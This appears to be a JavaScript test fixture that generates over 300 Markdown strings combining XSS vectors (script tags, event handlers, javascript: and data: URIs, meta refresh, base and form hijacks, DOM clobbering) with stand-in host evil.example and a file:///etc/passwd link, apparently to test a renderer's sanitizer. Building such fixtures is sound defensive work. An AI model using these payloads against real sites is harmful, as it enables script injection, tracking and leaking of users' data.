// Texts that try to become a script, a style, a picture or a request when they are rendered. Made
// by rule and not taken from a list: each way to do harm, in each place of a Markdown document.

const TARGETS = [
  "javascript:globalThis.pwned=1",
  "JaVaScRiPt:globalThis.pwned=1",
  "java\tscript:globalThis.pwned=1",
  "&#106;avascript:globalThis.pwned=1",
  "\u0001javascript:globalThis.pwned=1",
  "vbscript:msgbox(1)",
  "data:text/html,<script>globalThis.pwned=1</script>",
  "data:image/svg+xml,<svg onload=globalThis.pwned=1>",
  "//evil.example/x",
  "http://evil.example/pixel.png",
  "file:///etc/passwd",
  "blob:http://evil.example/1",
];

const HTML = [
  "<script>globalThis.pwned=1</script>",
  "<script src=http://evil.example/x.js></script>",
  "<img src=x onerror=globalThis.pwned=1>",
  "<img src=http://evil.example/pixel.png>",
  "<svg onload=globalThis.pwned=1>",
  "<svg><script>globalThis.pwned=1</script></svg>",
  "<iframe src=javascript:globalThis.pwned=1></iframe>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<math><mi xlink:href=javascript:globalThis.pwned=1>x</mi></math>",
  "<body onload=globalThis.pwned=1>",
  "<details open ontoggle=globalThis.pwned=1>x</details>",
  "<input autofocus onfocus=globalThis.pwned=1>",
  "<video><source onerror=globalThis.pwned=1></video>",
  "<object data=javascript:globalThis.pwned=1></object>",
  "<embed src=http://evil.example/x>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<style>body{background:url(http://evil.example/pixel.png)}</style>",
  "<base href=http://evil.example/>",
  "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
  "<form action=http://evil.example/><button>x</button></form>",
  "<a href=javascript:globalThis.pwned=1>x</a>",
  "<p style='background:url(http://evil.example/p.png)'>x</p>",
  "<template><script>globalThis.pwned=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=globalThis.pwned=1>'>",
  "<!--><img src=x onerror=globalThis.pwned=1>-->",
  "<![CDATA[<script>globalThis.pwned=1</script>]]>",
  "<a id=ask name=send>clobber</a>",
  "<ingle-chat model=http://evil.example/m.gguf></ingle-chat>",
  "</article></main><script>globalThis.pwned=1</script>",
];

const PLACES = [
  (x) => x,
  (x) => `**${x}**`,
  (x) => `# ${x}`,
  (x) => `- ${x}\n  - ${x}`,
  (x) => `> ${x}`,
  (x) => `| a |\n|---|\n| ${x} |`,
  (x) => `\`\`\`${x}\n${x}\n\`\`\``,
];

const LINKS = [
  (x) => `[text](${x})`,
  (x) => `![picture](${x})`,
  (x) => `<${x}>`,
  (x) => `[text][a]\n\n[a]: ${x}`,
  (x) => `[![picture](${x})](${x})`,
  (x) => `[text](${x} "title\\" onclick=globalThis.pwned=1")`,
  (x) => `| ![p](${x}) |\n|---|\n| [t](${x}) |`,
  (x) => `- [ ] [task](${x})`,
];

/** More than 300 documents. */
export const payloads = [
  ...HTML.flatMap((html) => PLACES.map((place) => place(html))),
  ...TARGETS.flatMap((target) => LINKS.map((link) => link(target))),
];
